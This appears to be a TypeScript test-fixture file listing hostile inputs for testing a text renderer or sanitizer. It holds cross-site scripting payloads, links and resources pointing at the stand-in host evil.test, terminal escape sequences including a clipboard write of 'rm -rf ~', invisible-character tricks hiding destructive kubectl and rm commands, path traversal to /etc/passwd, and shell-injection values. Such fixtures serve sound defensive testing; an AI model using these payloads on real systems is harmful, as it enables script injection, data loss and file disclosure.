/** Texts that want to be more than text. Each calls `attack()`, or asks `evil.test` for something. */

export const MARKUP: readonly string[] = [
  '<script>attack()</script>',
  '<ScRiPt src="https://evil.test/a.js"></sCrIpT>',
  '<img src=x onerror=attack()>',
  '<img src="https://evil.test/a.png">',
  '<svg onload=attack()><animate onbegin=attack() attributeName=x></svg>',
  '<svg><script>attack()</script></svg>',
  '<iframe src="https://evil.test/"></iframe>',
  '<iframe srcdoc="<script>attack()</script>"></iframe>',
  '<object data="https://evil.test/a.swf"></object><embed src="https://evil.test/">',
  '<link rel="stylesheet" href="https://evil.test/a.css">',
  '<style>@import "https://evil.test/a.css"; * { background: url(https://evil.test/b) }</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
  '<base href="https://evil.test/"><form action="https://evil.test/"><button autofocus onfocus=attack()>x</button></form>',
  '<a href="javascript:attack()" onclick="attack()">click</a>',
  '<details open ontoggle=attack()><summary>x</summary></details>',
  '<video autoplay onloadstart=attack()><source src="https://evil.test/a.mp4" onerror=attack()></video>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=attack()&gt;">',
  '"><script>attack()</script>',
  "' onmouseover='attack()' x='",
  '</title></style></textarea></pre></code><script>attack()</script>',
  ']]><script>attack()</script><![CDATA[',
  '--><script>attack()</script><!--',
  '{{constructor.constructor("attack()")()}}${attack()}',
];

export const LINKS: readonly string[] = [
  '[click](javascript:attack())',
  '[click](JaVaScRiPt:attack())',
  '[click](&#106;avascript:attack())',
  '[click](java\tscript:attack())',
  '[click](  javascript:attack())',
  '[click](vbscript:attack())',
  '[click](data:text/html,<script>attack()</script>)',
  '[click](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22x%22%7D)',
  '[click](file:///etc/passwd)',
  '[click](vscode://evil.test/x)',
  '[click](https://ok.test/"onmouseover="attack())',
  '<javascript:attack()>',
  '<command:workbench.action.quit>',
  '[click]: javascript:attack()\n\n[click]',
  '![picture](https://evil.test/a.png)',
  '![picture](data:image/svg+xml,<svg onload=attack()>)',
  '![picture][p]\n\n[p]: https://evil.test/a.png',
];

/** Sequences that a terminal would obey: links, the clipboard, the title, the screen, questions that it answers. */
export const TERMINAL: readonly string[] = [
  '\u001b]8;;command:workbench.action.quit\u0007click\u001b]8;;\u0007',
  '\u001b]8;;file:///etc/passwd\u001b\\click\u001b]8;;\u001b\\',
  '\u001b]52;c;cm0gLXJmIH4=\u0007',
  '\u001b]0;a title\u0007',
  '\u001b]0;a title without an end',
  '\u001b[2J\u001b[H\u001b[?1049h',
  '\u001b[8m hidden \u001b[0m',
  '\u001b[6n\u001b[c\u001bP+q544e\u001b\\',
  '\u009b31m\u009d0;title\u009c',
  'good\rbad',
  'good\b\b\b\bbad',
];

/** What is seen is not what is there. */
export const HIDDEN: readonly string[] = [
  'kubectl get pods \u202e# sdop llaetteled\u202c',
  'rm\u2066 -rf ~ \u2069# harmless',
  'kube\u200bctl delete ns prod',
  'a\u00adb\u2060c\ufeffd',
  'x\u3164=1\u115f',
  'tag\u{e0041}\u{e0042}',
  '\u061cright\u200f to \u200eleft',
  '\u2028two\u2029lines',
];

/** Names that every object has already. */
export const KEYS: readonly string[] = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  '__defineGetter__',
  '__lookupSetter__',
];

/** Texts that are no good text. */
export const BROKEN: readonly string[] = [
  '\ud800',
  'a\udfffb',
  '\ufffe\uffff',
  '\u0001\u0002\u007f',
  '\u0300'.repeat(500),
  '한'.normalize('NFD'),
];

export const PATHS: readonly string[] = [
  '../../../../etc/passwd',
  '..\\..\\windows\\system32\\x',
  '/etc/passwd',
  'file:///etc/passwd',
  '.',
  '..',
  'a/../../b',
  '\u0000.md',
  'CON',
];

/** Names of things of a cluster that would be commands if they were pasted into one. */
export const SHELL: readonly string[] = [
  'x; touch /tmp/attacked',
  '$(touch /tmp/attacked)',
  '`touch /tmp/attacked`',
  'x && touch /tmp/attacked',
  'x | touch /tmp/attacked',
  "x' ; touch /tmp/attacked ; '",
  'x" ; touch /tmp/attacked ; "',
  'x\ntouch /tmp/attacked',
  'x > /tmp/attacked',
  '*',
  '~',
  '!!',
  '#',
  '',
];

export const ALL: readonly string[] = [
  ...MARKUP,
  ...LINKS,
  ...TERMINAL,
  ...HIDDEN,
  ...KEYS,
  ...BROKEN,
  ...PATHS,
  ...SHELL,
];

/** Length of texts on which work that grows with its square would not come to an end within a test. */
export const LONG = 100_000;

/** Pieces that expressions try again on. */
export const UNITS: readonly string[] = [
  ' ',
  '\t',
  '\n',
  '\r\n',
  '\n \t',
  '>',
  '> ',
  '- ',
  '1. ',
  '#',
  '`',
  '~',
  '"',
  "'",
  '(',
  '[',
  '{{',
  '<',
  '<!--',
  '&',
  '\\',
  '=',
  'a=',
  '0',
  '0.',
  ':',
  '/',
  '@',
  '-',
  '한',
  '\u0000',
  '\u2028',
  '<<A ',
  'run("',
  'k exec ',
  'print',
  'x y',
];

export const long = (unit: string, length = LONG): string => unit.repeat(Math.ceil(length / unit.length));

/** What must not be in a text that a person reads. */
export const UNSEEN: readonly string[] = [
  '\u0000',
  '\u001b',
  '\u200b',
  '\u202a',
  '\u202e',
  '\u2066',
  '\u2069',
];
